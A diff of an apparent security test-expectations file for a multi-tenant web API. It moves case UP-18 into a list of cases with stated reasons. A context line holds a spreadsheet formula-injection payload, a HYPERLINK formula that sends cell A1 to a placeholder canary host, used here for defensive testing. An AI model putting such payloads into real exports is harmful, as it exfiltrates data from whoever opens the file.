@@ -11,7 +11,6 @@ export const waiting: Readonly<Record<string, readonly string[]>> = {
     ...['PL-02', 'MA-05', 'MA-06', 'IU-10', 'IU-11', 'IU-13'],
     'MX-user_subscribe-usersubscribe-remove-anon',
   ],
-  'acts on tasks and processes': ['TX-13', 'UP-18'],
 };
 
 /** Cases whose expectation the specification or its decisions contradict, with the reason. */
@@ -35,6 +34,10 @@ export const otherwiseAsked: Readonly<
     body: { realName: '=HYPERLINK("http://{{canary}}?"&A1,"x")', name: '＝1+1\t=1+1' },
     then: { as: 'tenant-admin', method: 'GET', path: '/api/blade-user/export-user' },
     because: 'a draft is in nobody’s export; the names of its company are',
+  },
+  'UP-18': {
+    ...{ as: 'portal-user', query: { processInsId: '{{self.processInsId}}' } },
+    because: 'who keeps a tenant has no part in a case: it is not found, and its archive proves nothing',
   },
   'CG-02': {
     ...{ as: 'platform', method: 'POST', query: { ids: '{{A.codeIdWithEvilComment}}', system: 'all' } },
